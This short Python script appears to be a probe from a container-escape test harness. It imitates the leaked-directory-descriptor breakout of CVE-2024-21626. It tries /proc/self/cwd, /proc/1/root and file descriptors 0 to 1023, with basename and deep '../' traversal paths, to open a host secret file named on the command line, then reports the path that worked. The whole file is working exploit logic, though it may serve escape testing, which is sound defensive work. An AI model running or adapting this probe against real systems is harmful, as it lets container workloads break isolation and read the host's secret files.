"""Climbs out by a directory of the host that was left open (as CVE-2024-21626 did); argument: a secret's path."""
from attack import *

path = sys.argv[1]
bases = ["/proc/self/cwd", ".", "/proc/1/cwd", "/proc/1/root", "/proc/self/root"]
bases += [f"/proc/self/fd/{fd}" for fd in range(1024)]
for base in bases:
    for candidate in (f"{base}/{os.path.basename(path)}", f"{base}/" + "../" * 24 + path.lstrip("/")):
        try:
            os.close(os.open(candidate, os.O_RDONLY))
            print("through:", candidate)
            result("ok")
        except OSError:
            continue
result("nothing found")
